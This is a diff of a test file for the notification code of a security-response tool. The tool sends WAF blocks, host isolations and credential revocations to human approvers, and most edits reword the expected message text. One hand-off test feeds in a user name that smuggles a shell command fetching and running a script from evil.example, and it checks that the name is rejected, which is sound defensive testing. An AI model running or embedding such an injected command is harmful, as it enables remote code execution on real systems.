@@ -69,12 +69,14 @@ describe('notifications', () => {
   test('notifies everyone who was asked and the managers of an expired request, and opens a ticket', async () => {
     await notifyAbout(await put(store, waiting({ status: 'expired' })));
     expect(recipients()).toEqual(['ana.silva', 'ben.okafor', 'mei.tanaka']);
-    expect(text()).toContain('nothing was done');
+    expect(text()).toContain(
+      'Nothing was changed. The request was to block web requests from 203.0.113.7.',
+    );
     expect(text()).toContain('Ticket: oi-1');
     expect(tickets).toHaveLength(1);
     expect((await load()).history.at(-1)).toMatchObject({
       event: 'told',
-      text: 'Told Ana Silva, Ben Okafor, Mei Tanaka',
+      text: 'Notified Ana Silva, Ben Okafor, Mei Tanaka',
     });
     expect((await load()).attentionAt, 'the sweeper has no more to do').toBeNull();
   });
@@ -84,22 +86,26 @@ describe('notifications', () => {
       await put(store, waiting({ status: 'expired', name: 'create_alert_ticket' })),
     );
     const text = [sent[0]!.subject, asText(sent[0]!)].join('\n');
-    expect(text).toContain('so a ticket is opened all the same');
-    expect(text).not.toMatch(/Not done|nothing was done/);
+    expect(text).toContain('Countermand opens the ticket anyway');
+    expect(text).not.toMatch(/Not done|Nothing was changed/);
   });
 
   test('says which approver of an expired request was not paged', async () => {
     const by = 'approve';
-    const held = 'Not woken, with their pages of the hour used up: Ben Okafor';
+    const held = 'Not paged (hourly limit reached): Ben Okafor';
     const action = withEntry(waiting(), { at: minute(0), by, event: 'not-woken', text: held });
     await notifyAbout(await put(store, { ...action, status: 'expired' }));
-    expect(asText(sent[0]!)).toContain(`But: ${held}.`);
+    expect(asText(sent[0]!)).toContain(`Not asked: ${held}.`);
   });
 
   test('sends the commands to carry out and to undo the action of an expired request', async () => {
     await notifyAbout(await put(store, waiting({ status: 'expired' })));
     const titles = sent[0]!.steps.map(({ title }) => title);
-    expect(titles).toEqual([expect.stringMatching(/^Look first/), 'To do it', 'To take it back']);
+    expect(titles).toEqual([
+      expect.stringMatching(/^Check first/),
+      'Carry it out manually',
+      'Undo it manually',
+    ]);
     expect(text()).toContain('aws wafv2 update-ip-set');
     expect(text()).toContain('203.0.113.7');
     expect(tickets[0]?.body).toContain('aws wafv2 update-ip-set');
@@ -109,7 +115,7 @@ describe('notifications', () => {
     const openTicket = () => Promise.reject(new Unavailable('OpsCenter is down'));
     await notifyAbout(await put(store, waiting({ status: 'expired' })), {}, { openTicket });
     expect(recipients()).toHaveLength(3);
-    expect(text()).toContain('Ticket: None could be opened.');
+    expect(text()).toContain('Ticket: No ticket could be opened.');
   });
 
   test('notifies the others when one person cannot be reached, and records it', async () => {
@@ -117,7 +123,7 @@ describe('notifications', () => {
     await notifyAbout(await put(store, waiting({ status: 'expired' })));
     expect(recipients()).toEqual(['ben.okafor', 'mei.tanaka']);
     expect((await load()).history.at(-1)?.text).toBe(
-      'Told Ben Okafor, Mei Tanaka; not reached: Ana Silva',
+      'Notified Ben Okafor, Mei Tanaka; not reached: Ana Silva',
     );
   });
 
@@ -130,7 +136,7 @@ describe('notifications', () => {
       },
     );
     expect((await load()).history.at(-1)?.text).toBe(
-      'Told Ana Silva; not delivered: PagerDuty to Ana Silva',
+      'Notified Ana Silva; not delivered: PagerDuty to Ana Silva',
     );
   });
 
@@ -167,8 +173,8 @@ describe('notifications', () => {
     await notifyAbout(action, { failure });
     const keys = sent.filter(({ to }) => to.kind === 'person' && to.id === ana.id);
     expect(keys.map(({ subject }) => subject.split(':')[0])).toEqual([
-      'No longer there',
-      'No longer there',
+      'Removed by someone else',
+      'Removed by someone else',
       'NOT UNDONE',
     ]);
     expect(new Set(keys.map(({ key }) => key)).size).toBe(3);
@@ -178,7 +184,7 @@ describe('notifications', () => {
     await notifyAbout(await put(store, waiting()), { failure });
     expect(recipients()).toEqual(['ana.silva', 'ben.okafor', 'mei.tanaka']);
     expect(text()).toContain('WAF did not answer');
-    expect(text()).toContain('unless somebody answers by 03:15 UTC');
+    expect(text()).toContain('If no one decides by 03:15 UTC, nothing changes.');
   });
 
   test('notifies the approver that the approved action was stopped and nothing was changed', async () => {
@@ -186,8 +192,10 @@ describe('notifications', () => {
     const change = { status: 'handed-off', failure: stopped, before: null } as const;
     await notifyAbout(await put(store, inForce({ ...change, appliedAt: null, dueAt: null })));
     expect(recipients()).toEqual(['ana.silva']);
-    expect(text()).toMatch(/^Approved, but stopped: /);
-    expect(text()).toContain('it is protected.\nNothing was changed.');
+    expect(text()).toMatch(/^Stopped after approval: /);
+    expect(text()).toContain(
+      'Nothing was changed. The request was to block web requests from 203.0.113.7.\nStopped after approval: it is protected.',
+    );
   });
 
   test('notifies the approver when an approved action could not continue', async () => {
@@ -206,7 +214,7 @@ describe('notifications', () => {
       await put(store, inForce({ status: 'failed', failure: 'QuotaExceeded: full' })),
     );
     expect(text()).toContain('QuotaExceeded: full');
-    expect(text()).toContain('taken back');
+    expect(text()).toContain('Every partial change was undone.');
   });
 
   test.each(['reversal-failed', 'reversing'] as const)(
@@ -224,7 +232,7 @@ describe('notifications', () => {
     const action = await put(store, inForce({ status: 'reversal-failed' }));
     await notifyAbout(action, { failure }, { now: () => minute(600) });
     for (const { links, to } of sent) {
-      expect(links).toMatchObject([{ label: 'Try again, or keep it' }]);
+      expect(links).toMatchObject([{ label: 'Retry the undo, or keep the change' }]);
       const token = links[0]!.url.slice(`${BASE_URL}/review/`.length);
       const read = (minutes: number) => readLink(mac, token, 'review', minute(minutes));
       const { id } = to as { id: string };
@@ -250,7 +258,7 @@ describe('notifications', () => {
     );
     await notifyAbout(action);
     expect(recipients()).toEqual(['ana.silva']);
-    expect(text()).toMatch(/^Over, now rotate: /);
+    expect(text()).toMatch(/^Undone, rotate the key now: /);
     expect(text()).toContain('aws iam create-access-key');
     expect(tickets).toHaveLength(1);
     await notifyAbout(action);
@@ -265,7 +273,7 @@ describe('notifications', () => {
   test('does not claim that an action in force should already be undone', async () => {
     await notifyAbout(await put(store, inForce()), { failure });
     expect(text()).toMatch(/^Please check: /);
-    expect(text()).toContain('is undone at 04:03 UTC on 24 Nov');
+    expect(text()).toContain('Undo is scheduled for 04:03 UTC on 24 Nov 2026.');
   });
 
   test.each(['declined', 'reversed', 'dropped', 'kept'] as const)(
@@ -288,9 +296,11 @@ describe('a decision', () => {
       { to: { id: 'ana.silva' }, urgency: 'inform', ends: [requestKey(ana, 0)] },
       { to: { id: 'ben.okafor' }, urgency: 'inform', ends: [requestKey(ben, 1)] },
     ]);
-    expect(text()).toMatch(/^Approved: Block web requests/);
-    expect(text()).toContain('Ana Silva approved it at 03:02 UTC on 24 Nov.');
-    expect(text()).toContain('It is in force, and is undone at 04:03 UTC on 24 Nov.');
+    expect(text()).toMatch(/^Blocked web requests from 203\.0\.113\.7\n/);
+    expect(text()).toContain('Ana Silva approved this at 03:02 UTC.');
+    expect(text()).toContain(
+      'Blocked web requests from 203.0.113.7 at 03:03 UTC. Undo is scheduled for 04:03 UTC.',
+    );
     expect(tickets).toEqual([]);
   });
 
@@ -358,13 +368,17 @@ describe('a hand-off', () => {
   test('sends a hand-off to the on-call analyst with filled-in commands to check, carry out and undo it', async () => {
     await notifyAbout(await handOff({ name: 'isolate_production_host', target: instance }));
     expect(recipients()).toEqual(['ana.silva']);
-    expect(text()).toContain('Yours to decide: isolate production host on i-0123456789abcdef0');
-    expect(text()).toContain('Tier 3: never runs here');
+    expect(text()).toContain('You decide: Isolate the production host i-0123456789abcdef0');
+    expect(text()).toContain('Tier 3: it never runs here');
     expect(text()).toMatch(
-      /Before you act:[\s\S]*memory is evidence[\s\S]*Look first[^\n]*:\naws sts get-caller-identity [^\n]*has to say 111122223333\naws ec2 describe-instances --instance-ids i-0123456789abcdef0/,
+      /Before you act:[\s\S]*memory is evidence[\s\S]*Check first[^\n]*:\naws sts get-caller-identity [^\n]*must print 111122223333\naws ec2 describe-instances --instance-ids i-0123456789abcdef0/,
     );
-    expect(text()).toMatch(/To do it:[\s\S]*ec2 create-security-group[\s\S]*To take it back:/);
-    expect(text()).toMatch(/Tell: Whoever runs the service on it[\s\S]*\nMei Tanaka, manager\n/);
+    expect(text()).toMatch(
+      /Carry it out manually:[\s\S]*ec2 create-security-group[\s\S]*Undo it manually:/,
+    );
+    expect(text()).toMatch(
+      /Notify: The owner of the service on the instance[\s\S]*\nMei Tanaka, manager\n/,
+    );
     expect(text()).not.toMatch(/<[a-z]/);
     expect((await load()).attentionAt).toBeNull();
   });
@@ -388,7 +402,7 @@ describe('a hand-off', () => {
     const name = "x'; curl http://evil.example | sh; '";
     const target = { ...instance, kind: 'iam-user' as const, ref: 'user-1', value: name };
     await notifyAbout(await handOff({ name: 'revoke_service_account_credential', target }));
-    expect(text()).toContain('is no id of an IAM user: find out what is meant first.');
+    expect(text()).toContain('is not an IAM user name.');
     expect(text()).not.toMatch(/\naws /);
   });
 
@@ -400,12 +414,12 @@ describe('a hand-off', () => {
     };
     await notifyAbout(await handOff({ name: null, target: null, recommendation }));
     expect(text()).toContain('launch missiles on ip-9');
-    expect(text()).toContain('nothing in the alert');
+    expect(text()).toContain('which the alert does not name');
   });
 
   test('puts the reasoning of the model last, and marks it', async () => {
     await notifyAbout(await handOff({ name: 'isolate_production_host', target: instance }));
     const [last] = asText(sent[0]!).split('\n\n').slice(-1);
-    expect(last).toMatch(/^The reasoning, written by a machine/);
+    expect(last).toMatch(/^Reasoning, written by a machine/);
   });
 });
